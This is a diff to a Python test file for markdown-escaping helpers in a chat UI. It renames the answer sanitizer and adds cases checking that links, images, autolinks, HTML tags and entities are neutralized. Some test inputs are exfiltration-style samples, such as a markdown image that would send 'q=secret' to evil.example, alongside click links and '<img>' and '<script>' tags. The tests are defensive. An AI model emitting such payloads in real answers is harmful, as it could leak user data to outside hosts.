@@ -5,8 +5,7 @@ from __future__ import annotations
 import pytest
 
 from core.ui.contracts.upload import display_name
-from core.ui.escape import markup, md, plain, short
-from core.ui.qa.chat import harmless
+from core.ui.escape import answer_md, markup, md, plain, short
 
 
 @pytest.mark.parametrize(
@@ -35,6 +34,7 @@ def test_display_name(raw: str, expected: str) -> None:
         ("$x$ :red[y] :smile:", "\\$x\\$ \\:\u2060red\\[y\\] \\:\u2060smile\\:\u2060"),
         ("![i](http://e.example)", "\\!\\[i\\]\\(http\\:\u2060\\/\\/e\\.example\\)"),
         ("<script>", "\\<script\\>"),
+        ("www.a.example a@b.example", "www\u2060\\.a\\.example a\u2060\\@b\\.example"),
     ],
 )
 def test_markdown(text: str, expected: str) -> None:
@@ -55,15 +55,18 @@ def test_plain_and_markup() -> None:
     ("text", "expected"),
     [
         ("契約3 **X** [3 · p. 1]", "契約3 **X** [3 · p. 1]"),
-        ("![pixel](http://evil.example/?q=secret)", "![pixel]\\(http:\u2060//evil.example/?q=secret)"),
-        ("[click](http://evil.example)", "[click]\\(http:\u2060//evil.example)"),
+        ("![pixel](http://evil.example/?q=secret)", "![pixel]\u2060(http:\u2060//evil.example/?q=secret)"),
+        ("[click](http://evil.example)", "[click]\u2060(http:\u2060//evil.example)"),
         ("see https://evil.example now", "see https:\u2060//evil.example now"),
         ("www.evil.example, a@evil.example", "www\u2060.evil.example, a\u2060@evil.example"),
-        ("[1]: https://evil.example", "[1]\\: https:\u2060//evil.example"),
-        ("[click][ref]", "[click]\\[ref]"),
-        ("<img src=x>", "\\<img src=x>"),
-        ("already \\<b\\>", "already \\<b\\>"),
+        ("[1]: https://evil.example", "[1]\u2060: https:\u2060//evil.example"),
+        ("[click][ref]", "[click]\u2060[ref]"),
+        ("<img src=x>", "<\u2060img src=x>"),
+        ("already \\<b\\>", "already \\<\u2060b\\>"),
+        ("https:\\//x www\\.x _www.x a\\@x", "https:\u2060\\//x www\u2060\\.x _www\u2060.x a\u2060\\@x"),
+        ("http&#58;//x &amp; R&D", "http&\u2060#58;//x &\u2060amp; R&D"),
+        ("$1 \\$2 \\\\$3", "\\$1 \\$2 \\\\\\$3"),
     ],
 )
 def test_answers_carry_no_pictures_or_links(text: str, expected: str) -> None:
-    assert harmless(text) == expected
+    assert answer_md(text) == expected
